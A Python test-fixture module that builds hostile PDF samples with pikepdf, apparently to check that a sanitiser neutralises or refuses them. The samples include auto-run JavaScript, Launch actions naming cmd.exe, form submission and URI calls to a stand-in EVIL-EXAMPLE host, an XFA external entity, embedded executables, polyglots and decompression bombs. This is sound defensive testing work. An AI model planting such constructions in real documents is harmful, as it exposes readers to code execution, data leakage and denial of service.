"""Build PDF files that act, call, carry, hide or never end."""

import io
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from .hostile import NEUTRALISED, REFUSED, SCRIPT, Hostile, zeros
from .hostile_pictures import TELLS, behind_the_mark, made, told

PDF = "application/pdf"
AS_WRITTEN = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
CALLED = "http://EVIL-EXAMPLE.test/"


def document(change: Callable[[pikepdf.Pdf], None] = lambda pdf: None, pages: int = 1, **how) -> bytes:
    """Return a PDF of pages that say « seen », changed."""
    pdf, written = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(200, 200))
        page.Contents = pdf.make_stream(b"BT 20 20 Td (seen) Tj ET")
    change(pdf)
    pdf.save(written, **(how or AS_WRITTEN))
    return written.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('MARKER-OF-A-SCRIPT')"))


def action(kind: str, **more) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def annotation(pdf: pikepdf.Pdf, **more) -> None:
    """Put an annotation on the first page."""
    one = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 100, 100]), **more)
    pdf.pages[0].Annots = Array([pdf.make_indirect(one)])


def link(does: Dictionary) -> bytes:
    return document(lambda pdf: annotation(pdf, Subtype=Name.Link, A=does))


def opening(does: Dictionary) -> bytes:
    def change(pdf):
        pdf.Root.OpenAction = does

    return document(change)


def acts() -> Iterator[Hostile]:
    def named(pdf):
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))

    def of_page(pdf):
        pdf.pages[0].AA = Dictionary(O=script(), C=script())

    def of_field(pdf):
        field = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("a"),
            V=String("typed"),
            Rect=Array([0, 0, 99, 30]),
            AA=Dictionary(K=script(), F=script()),
            A=action("SubmitForm", F=String(CALLED)),
            DA=String("/Helv 9 Tf"),
        )
        field = pdf.make_indirect(field)
        pdf.pages[0].Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)

    def of_bookmark(pdf):
        first = pdf.make_indirect(Dictionary(Title=String("EVIL-EXAMPLE"), A=script()))
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=first, Last=first, Count=1))

    def in_a_stream(pdf):
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT))

    def behind_the_next(pdf):
        pdf.Root.OpenAction = action(
            "GoTo", D=Array([0, Name.Fit]), Next=Array([script(), action("URI", URI=String(CALLED))])
        )

    def in_the_resources(pdf):
        pdf.pages[0].Resources = Dictionary(
            Properties=Dictionary(MC0=Dictionary(A=script(), URI=String(CALLED))),
            ExtGState=Dictionary(GS0=Dictionary(AA=Dictionary(O=script()))),
        )

    cases = {
        "JavaScript by its name": document(named),
        "JavaScript when a page is opened and closed": document(of_page),
        "a form that calculates and sends": document(of_field),
        "a bookmark that runs": document(of_bookmark),
        "JavaScript in a stream": document(in_a_stream),
        "JavaScript behind another action": document(behind_the_next),
        "JavaScript in what a page uses": document(in_the_resources),
        "OpenAction with JavaScript": opening(script()),
        "OpenAction that launches": opening(action("Launch", F=String("EVIL-EXAMPLE.exe"))),
        "a launch with the words of Windows": link(
            action("Launch", Win=Dictionary(F=String("cmd.exe"), P=String("EVIL-EXAMPLE")))
        ),
        "a link to a site": link(action("URI", URI=String(CALLED))),
        "a link to a share": link(action("GoToR", F=String("\\\\EVIL-EXAMPLE\\share"), D=Array([0, Name.Fit]))),
        "a link into a file it carries": link(action("GoToE", T=Dictionary(R=Name.C, N=String("EVIL-EXAMPLE")))),
        "data of another file": link(action("ImportData", F=String("EVIL-EXAMPLE.fdf"))),
        "a film": link(action("Rendition", OP=0, JS=String("EVIL-EXAMPLE()"))),
    }
    for what, content in cases.items():
        yield Hostile(f"PDF: {what}", "a.pdf", content, NEUTRALISED, PDF)


def carries() -> Iterator[Hostile]:
    def attached(pdf):
        pdf.attachments["EVIL-EXAMPLE.exe"] = b"MZ" + SCRIPT

    def pinned(pdf):
        file = pdf.make_stream(SCRIPT)
        file.Type = Name.EmbeddedFile
        spec = Dictionary(Type=Name.Filespec, F=String("EVIL-EXAMPLE.exe"), EF=Dictionary(F=file))
        annotation(pdf, Subtype=Name.FileAttachment, FS=pdf.make_indirect(spec))
        pdf.Root.AF = pdf.pages[0].AF = Array([pdf.make_indirect(spec)])

    def xfa(pdf):
        form = pdf.make_stream(
            b"<xdp:xdp xmlns:xdp='x'>" + SCRIPT + b"<!ENTITY a SYSTEM 'http://EVIL-EXAMPLE/'></xdp:xdp>"
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)

    def rich(pdf):
        film = Dictionary(Assets=Dictionary(Names=Array([String("EVIL-EXAMPLE.swf"), pdf.make_stream(SCRIPT)])))
        annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=film, RichMediaSettings=Dictionary(A=script()))

    def elsewhere(pdf):
        outside = pdf.make_stream(SCRIPT)
        outside.F = String(f"{CALLED}content")
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(X=outside, P=_postscript(pdf)))

    def author(pdf):
        pdf.docinfo.Author = pdf.docinfo.Title = String("NAME-OF-AN-AUTHOR")
        with pdf.open_metadata() as xmp:
            xmp["dc:creator"] = ["NAME-OF-AN-AUTHOR"]
        pdf.pages[0].PieceInfo = Dictionary(X=Dictionary(Private=String("NAME-OF-AN-AUTHOR")))
        pdf.pages[0].Metadata = pdf.make_stream(b"<x>NAME-OF-AN-AUTHOR</x>")

    def photograph(pdf):
        _photograph(pdf, behind_the_mark(made("JPEG", exif=told(), comment=TELLS), b"\xff\xed", TELLS) + SCRIPT)

    def wrapped(pdf):
        _photograph(pdf, zlib.compress(made("JPEG", exif=told())), Array([Name.FlateDecode, Name.DCTDecode]))

    changes = {
        "a program attached": attached,
        "a file pinned to a page": pinned,
        "a form of XFA": xfa,
        "rich media": rich,
        "a picture of another site, and PostScript": elsewhere,
        "its author": author,
        "a photograph with its place": photograph,
        "the same, compressed once more": wrapped,
    }
    for what, change in changes.items():
        yield Hostile(f"PDF: {what}", "a.pdf", document(change), NEUTRALISED, PDF)


def _postscript(pdf: pikepdf.Pdf) -> pikepdf.Stream:
    made = pdf.make_stream(SCRIPT)
    made.Type, made.Subtype = Name.XObject, Name.PS
    return made


def _photograph(pdf: pikepdf.Pdf, content: bytes, filters=Name.DCTDecode) -> None:
    image = pdf.make_stream(b"")
    image.write(content, filter=filters)
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 40, 20
    image.ColorSpace, image.BitsPerComponent = Name.DeviceRGB, 8
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))
    pdf.pages[0].Contents = pdf.make_stream(b"q 40 0 0 20 0 0 cm /I Do Q BT (seen) Tj ET")


def polyglots() -> Iterator[Hostile]:
    plain = document()
    page = b"<html><body>" + SCRIPT + b"</body></html>"
    yield Hostile("a page that says it is PDF", "a.pdf", page, REFUSED, "type")
    yield Hostile("a page before a PDF", "a.pdf", page + plain, REFUSED, "type")
    yield Hostile("a page behind a PDF", "a.html", plain + page, NEUTRALISED, PDF)
    yield Hostile(
        "a page in a remark of a PDF", "a.html", plain[:9] + b"%" + SCRIPT + b"\n" + plain[9:], NEUTRALISED, PDF
    )
    yield Hostile("an archive behind a PDF", "a.pdf", plain + b"PK\x03\x04" + SCRIPT, NEUTRALISED, PDF)

    def unused(pdf):
        pdf.Root.Unused = pdf.make_indirect(Dictionary(X=pdf.make_stream(SCRIPT)))

    def behind_the_end(pdf):
        content = pdf.make_stream(b"")
        content.write(zlib.compress(b"BT (seen) Tj ET") + SCRIPT, filter=Name.FlateDecode)
        pdf.pages[0].Contents = content

    yield Hostile("a page in an object nobody shows", "a.pdf", document(unused), NEUTRALISED, PDF)
    yield Hostile("a page behind the end of compressed data", "a.pdf", document(behind_the_end), NEUTRALISED, PDF)
    yield Hostile("a head of PDF and nothing else", "a.pdf", b"%PDF-1.7\n" + SCRIPT, REFUSED, "damaged")


def floods() -> Iterator[Hostile]:
    def once(pdf):
        content = pdf.make_stream(b"")
        content.write(zeros(2_000), filter=Name.FlateDecode)
        pdf.pages[0].Contents = content

    def compressed_twice(pdf):
        content = pdf.make_stream(b"")
        content.write(zlib.compress(zeros(40_000)), filter=Array([Name.FlateDecode, Name.FlateDecode]))
        pdf.pages[0].Contents = content

    def runs(pdf):
        content = pdf.make_stream(b"")
        content.write(b"\x81\0" * 5_000_000 + b"\x80", filter=Name.RunLengthDecode)  # 640 MB
        pdf.pages[0].Contents = content

    def large_picture(pdf):
        _photograph(pdf, made("JPEG"))
        pdf.pages[0].Resources.XObject.I.Width = pdf.pages[0].Resources.XObject.I.Height = 65_500

    def many(pdf):
        pdf.Root.Many = Array([pdf.make_indirect(Dictionary(N=number)) for number in range(70_000)])

    def twice(pdf):
        shown = pdf.make_stream(b"/X Do")
        shown.Type, shown.Subtype, shown.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
        shown.Resources = Dictionary(XObject=Dictionary(X=shown))  # shows itself
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(X=shown))

    def deep(pdf):
        inner = Array([])
        for _ in range(400):
            inner = Array([inner])
        pdf.pages[0].Resources = Dictionary(ExtGState=Dictionary(G=Dictionary(D=inner)))

    yield Hostile("PDF: two thousand megabytes of zeros", "a.pdf", document(once), REFUSED, "too_large")
    yield Hostile(
        "PDF: forty thousand megabytes, compressed twice", "a.pdf", document(compressed_twice), REFUSED, "too_large"
    )
    yield Hostile("PDF: six hundred megabytes of runs", "a.pdf", document(runs), REFUSED, "damaged")
    yield Hostile("PDF: a picture of 65,500 by 65,500", "a.pdf", document(large_picture), REFUSED, "too_many_pixels")
    yield Hostile("PDF: seventy thousand objects", "a.pdf", document(many), REFUSED, "too_large")
    yield Hostile("PDF: three hundred and one pages", "a.pdf", document(pages=301), REFUSED, "too_many_pages")
    yield Hostile("PDF: a drawing that shows itself", "a.pdf", document(twice), NEUTRALISED, PDF)
    yield Hostile("PDF: lists in lists", "a.pdf", document(deep), NEUTRALISED, PDF)
    yield Hostile("PDF: a tree of pages in a circle", "a.pdf", CIRCLE, REFUSED, "damaged")


CIRCLE = b"""%PDF-1.4
1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj
2 0 obj <</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>> endobj
trailer <</Root 1 0 R/Size 3>>
"""


def broken() -> Iterator[Hostile]:
    whole = document()
    both = pikepdf.Encryption(owner="a", user="b")
    owner = pikepdf.Encryption(owner="a", user="")
    yield Hostile("PDF with a password", "a.pdf", document(encryption=both), REFUSED, "password")
    yield Hostile("PDF that only its owner may print", "a.pdf", document(encryption=owner), REFUSED, "password")
    yield Hostile(
        "PDF with a password of old",
        "a.pdf",
        document(encryption=pikepdf.Encryption(owner="a", user="b", R=3, aes=False, metadata=False)),
        REFUSED,
        "password",
    )
    yield Hostile("PDF that was cut", "a.pdf", whole[: len(whole) // 4], REFUSED, "damaged")
    yield Hostile("PDF without a page", "a.pdf", document(pages=0), REFUSED, "damaged")


def documents() -> Iterator[Hostile]:
    for some in (acts, carries, polyglots, floods, broken):
        yield from some()
